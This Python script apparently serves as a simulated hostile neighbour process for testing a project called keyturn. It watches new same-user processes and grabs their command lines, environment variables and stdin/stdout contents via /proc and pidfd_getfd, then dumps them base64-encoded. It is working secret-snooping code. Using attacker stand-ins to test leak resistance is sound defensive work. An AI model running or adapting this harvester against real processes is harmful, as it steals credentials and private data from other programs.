"""A process of the same user that watches every new process: takes the contents of its pipes, its descriptors
and its environment. Run as a user: `neighbour.py`; a line on standard input ends it, and it prints
everything it got.

Standard library only; imports nothing of keyturn.
"""
# ruff: noqa: T201, PTH123, PTH208

from __future__ import annotations

import base64
import contextlib
import ctypes
import json
import os
import select

LIBC = ctypes.CDLL(None, use_errno=True)
PIDFD_OPEN, PIDFD_GETFD = 434, 438


class WatchedProcess:
    """A watched process."""

    def __init__(self, pid: str) -> None:
        self.pid = pid
        self.opened: dict[int, int] = {}
        self.got = b""
        self.environ = b""
        self.command = b""

    def take_all(self) -> None:
        with contextlib.suppress(OSError), open(f"/proc/{self.pid}/cmdline", "rb") as file:
            self.command = file.read() or self.command
        with contextlib.suppress(OSError), open(f"/proc/{self.pid}/environ", "rb") as file:
            self.environ = file.read() or self.environ
        for number in (0, 1):
            if number not in self.opened:
                with contextlib.suppress(OSError):
                    self.opened[number] = os.open(
                        f"/proc/{self.pid}/fd/{number}", os.O_RDONLY | os.O_NONBLOCK
                    )
            if number + 10 not in self.opened:
                self._take(number)
        self._drain()

    def _take(self, number: int) -> None:
        pidfd = LIBC.syscall(PIDFD_OPEN, int(self.pid), 0)
        if pidfd < 0:
            return
        pipe = LIBC.syscall(PIDFD_GETFD, pidfd, number, 0)
        os.close(pidfd)
        if pipe >= 0:
            self.opened[number + 10] = pipe

    def _drain(self) -> None:
        for descriptor in self.opened.values():
            with contextlib.suppress(OSError):
                if select.select([descriptor], [], [], 0)[0]:
                    self.got += os.read(descriptor, 65536)


def main() -> None:
    older = set(os.listdir("/proc"))
    watched: dict[str, WatchedProcess] = {}
    print("watching", flush=True)
    while not select.select([0], [], [], 0)[0]:
        for pid in os.listdir("/proc"):
            if pid.isdigit() and pid not in older:
                watched.setdefault(pid, WatchedProcess(pid)).take_all()
        for process in watched.values():
            process._drain()
    descriptors = sum(len(process.opened) for process in watched.values())
    everything = b"\n".join(process.got + process.environ + process.command for process in watched.values())
    commands = [
        process.command.replace(b"\0", b" ").decode("utf-8", "replace") for process in watched.values()
    ]
    print(
        json.dumps({"took": descriptors, "all": base64.b64encode(everything).decode(), "commands": commands})
    )


if __name__ == "__main__":
    main()
